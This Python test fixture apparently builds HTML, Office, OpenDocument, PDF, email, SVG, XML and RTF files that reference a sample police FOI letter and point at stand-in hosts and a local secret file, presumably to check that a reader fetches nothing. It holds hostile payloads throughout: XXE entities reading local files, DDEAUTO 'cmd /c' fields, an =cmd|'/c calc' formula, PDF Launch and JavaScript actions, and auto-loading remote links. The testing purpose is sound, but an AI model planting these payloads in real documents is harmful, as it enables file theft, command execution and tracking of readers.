"""Documents that link to the outside in each way their format has, all around the same letter."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

from hostile import packed, pdf_of
from reading import word

SERVER = "http://192.0.2.7"  # an address that is kept for examples: nobody answers
NAMED = "http://attacker.invalid"  # one that has to be looked up first
FIGURES = (("Charged/Summonsed", "3"), ("Community resolution", "4"), ("Grand Total", "7"))
LETTER = """Kent Police
Freedom of Information request 20/09/1088
30 September 2020

1. How many crimes were recorded in 2019, by outcome?

Outcome Total
Charged/Summonsed 3
Community resolution 4
Grand Total 7

Kent Police, www.kent.police.uk
"""
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns"


def linking_documents(secret: Path) -> Mapping[str, bytes]:
    """Return documents by name that link to two servers and to a file of the reader's own."""
    return {
        "page.html": _page(secret).encode(),
        "frames.html": f"<frameset><frame src='{NAMED}/f'><frame src='{secret}'>".encode(),
        "letter.docx": _letter(secret),
        "book.xlsx": _workbook(secret),
        "text.odt": _opendocument("text", _section(secret)),
        "sheet.ods": _opendocument("spreadsheet", _linked_sheet(secret)),
        "form.pdf": _pdf(secret),
        "mail.eml": _mail(secret),
        "drawing.svg": _drawing(secret),
        "entities.xml": _entities(secret),
        "entities.docx": _letter(secret, _doctype(secret)),
        "old.rtf": _rich_text(secret),
        "old.xml": _word_2003(secret),
        "links.zip": packed({"page.html": _page(secret), "go.url": f"[x]\nURL={SERVER}/go\n"}),
    }


def _page(secret: Path) -> str:
    links = "".join(
        f'<img src="{where}/i.png"><iframe src="{where}/f"></iframe><script src="{where}/s.js">'
        f'</script><link rel="stylesheet" href="{where}/c.css"><object data="{where}/o"></object>'
        f'<a href="{where}/a" ping="{where}/p">a</a><embed src="{where}/e"><video src="{where}/v">'
        for where in (SERVER, NAMED, secret.as_uri())
    )
    rows = "".join(f"<tr><td>{label}<td>{value}" for label, value in FIGURES)
    return (
        f'<html><head><base href="{SERVER}/"><meta http-equiv="refresh" content="0;url={NAMED}">'
        f"</head><body onload='fetch(\"{SERVER}\")'><p>Kent Police</p>{links}"
        f"<table><tr><th>Outcome<th>Total{rows}</table></body></html>"
    )


def _letter(secret: Path, doctype: str = "") -> bytes:
    picture = (
        '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="x0" o:href="x"/></v:shape></w:pict></w:r>'
        '</w:p><w:p><w:r><w:object><o:OLEObject Type="Link" r:id="x2" UpdateMode="Always"/>'
        "</w:object></w:r></w:p>"
    ).replace("o:", "v:")
    field = (
        f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{secret}&quot; "><w:r><w:t>y</w:t></w:r>'
        f'</w:fldSimple><w:fldSimple w:instr=" DDEAUTO cmd /c "/></w:p>'
    )
    entity = "<w:p><w:r><w:t>&local;&remote;</w:t></w:r></w:p>" if doctype else ""
    text = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in LETTER.splitlines())
    members = _members(word(text + picture + field + entity, settings='<w:x r:id="x1"/>'))
    members["word/document.xml"] = doctype + members["word/document.xml"]
    relations = "word/_rels/document.xml.rels"
    members[relations] = _with_links(members[relations], secret)
    members["word/_rels/settings.xml.rels"] = members[relations]
    return packed(members)


def _with_links(relations: str, secret: Path) -> str:
    kinds = ("image", "attachedTemplate", "oleObject", "externalLink", "frame", "subDocument")
    more = "".join(
        f'<Relationship Id="{key}{number}" Type="{_RELATION}/{kind}" TargetMode="External"'
        f' Target="{where}/{kind}"/>'
        for key, where in (("x", SERVER), ("y", NAMED), ("z", secret.as_uri()))
        for number, kind in enumerate(kinds)
    )
    return relations.replace("</Relationships>", f"{more}</Relationships>")


def _workbook(secret: Path) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (
        ("Outcome", "Total"),
        ("Charged", f"='[{secret}]Sheet1'!A1"),
        ("Caution", f'=WEBSERVICE("{SERVER}/w")'),
        ("Other", f'=HYPERLINK("{NAMED}","4")'),
        ("None", "=cmd|'/c calc'!A1"),
    ):
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    members = _members(stream.getvalue())
    members["xl/_rels/workbook.xml.rels"] = _with_links(
        members["xl/_rels/workbook.xml.rels"], secret
    )
    members["xl/connections.xml"] = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<connection id="1" type="4" refreshOnLoad="1"><webPr url="{SERVER}/q"/></connection>'
        "</connections>"
    )
    return packed(members)


def _members(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def _opendocument(kind: str, body: str) -> bytes:
    spaces = " ".join(
        f'xmlns:{name}="{_OFFICE}:{name}:1.0"' for name in ("office", "table", "text", "draw")
    )
    content = (
        f'<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:{kind}>{body}</office:{kind}></office:body>"
        "</office:document-content>"
    )
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    return packed({"mimetype": mimetype, "content.xml": content})


def _section(secret: Path) -> str:
    return "".join(
        f'<text:section text:name="s"><text:section-source xlink:href="{where}" xlink:actuate='
        f'"onLoad"/><text:p>Kent Police <draw:frame><draw:image xlink:href="{where}/i.png"/>'
        f'<draw:object xlink:href="{where}/o"/></draw:frame></text:p></text:section>'
        for where in (SERVER, NAMED, secret.as_uri())
    )


def _linked_sheet(secret: Path) -> str:
    return "".join(
        f'<table:table table:name="t"><table:table-source xlink:href="{where}" table:refresh-delay'
        '="PT1S"/><table:table-row><table:table-cell office:value-type="float" office:value="7">'
        "<text:p>7</text:p></table:table-cell></table:table-row></table:table>"
        for where in (SERVER, NAMED, secret.as_uri())
    )


def _pdf(secret: Path) -> bytes:
    text = b"BT /F 12 Tf 40 800 Td (Kent Police) Tj 0 -20 Td (Charged 3) Tj ET"
    actions = (
        b"/URI /URI (%s/u)" % SERVER.encode(),
        b"/Launch /F (/bin/sh) /NewWindow true",
        b"/GoToR /F (%s) /D [0 /Fit]" % str(secret).encode(),
        b'/JavaScript /JS (app.launchURL\\("%s"\\))' % NAMED.encode(),
        b"/SubmitForm /F << /FS /URL /F (%s/s) >>" % SERVER.encode(),
        b"/ImportData /F (%s)" % str(secret).encode(),
    )
    notes = b"".join(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S %s >> >>" % action
        for action in actions
    )
    opening = b"".join(b"/%s << /S %s >>" % (when, actions[3]) for when in (b"O", b"C"))
    return pdf_of(
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << %s >>"
        b" /Annots [%s] /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont"
        b" /Helvetica >> >> /XObject << /X 5 0 R >> >> >>" % (opening, notes),
        b"<< /Length %d >> stream\n%s\nendstream" % (len(text) + 6, text + b" /X Do"),
        b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (%s/x) >> >> stream\n\nendstream"
        % SERVER.encode(),
    )


def _mail(secret: Path) -> bytes:
    return (
        "From: foi@kent.police.uk\nTo: a@example.org\nSubject: 20/09/1088\nMIME-Version: 1.0\n"
        f"List-Unsubscribe: <{SERVER}/u>\nDisposition-Notification-To: a@attacker.invalid\n"
        'Content-Type: multipart/mixed; boundary="b"\n\n'
        f"--b\nContent-Type: text/html\n\n{_page(secret)}\n"
        f'--b\nContent-Type: message/external-body; access-type=URL; URL="{SERVER}/e"\n\n'
        f"Content-Type: text/plain\n\n--b\nContent-Type: message/external-body;"
        f' access-type=local-file; name="{secret}"\n\nContent-Type: text/plain\n\n--b--\n'
    ).encode()


def _doctype(secret: Path) -> str:
    return (
        f'<!DOCTYPE x SYSTEM "{SERVER}/x.dtd" [<!ENTITY local SYSTEM "{secret.as_uri()}">'
        f'<!ENTITY remote SYSTEM "{NAMED}/r"><!ENTITY % more SYSTEM "{SERVER}/m"> %more;]>'
    )


def _drawing(secret: Path) -> bytes:
    return (
        f'<?xml version="1.0"?>{_doctype(secret)}<svg xmlns="http://www.w3.org/2000/svg">'
        f'<image href="{SERVER}/i.png"/><use href="{secret.as_uri()}#a"/>'
        "<text>&local;&remote;</text></svg>"
    ).encode()


def _entities(secret: Path) -> bytes:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{SERVER}/s.xsl" type="text/xsl"?>'
        f'{_doctype(secret)}<x xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="{secret.as_uri()}" parse="text"/>&local;&remote;</x>'
    ).encode()


def _rich_text(secret: Path) -> bytes:
    links = "".join(
        f'{{\\field\\flddirty{{\\*\\fldinst {{ {kind} "{where}" }}}}{{\\fldrslt }}}}\\par '
        for where in (secret, f"{SERVER}/i.png", f"{NAMED}/i.png")
        for kind in ("INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "LINK Excel.Sheet.12", "DDEAUTO")
    )
    text = LETTER.replace("\n", "\\par ")
    return (
        f"{{\\rtf1\\ansi{{\\*\\template {SERVER}/t.dot}}{text}{links}{{\\object\\objautlink"
        "\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000001000000}{\\result z}}}"
    ).encode()


def _word_2003(secret: Path) -> bytes:
    return (
        f'<?xml version="1.0"?>{_doctype(secret)}<w:wordDocument xmlns:v="urn:schemas-microsoft-'
        'com:vml" xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p>'
        "<w:r><w:t>Kent Police &local;&remote;</w:t></w:r></w:p><w:p><w:r><w:pict><v:shape>"
        f'<v:imagedata src="{SERVER}/i.png"/></v:shape></w:pict></w:r></w:p></w:body>'
        "</w:wordDocument>"
    ).encode()
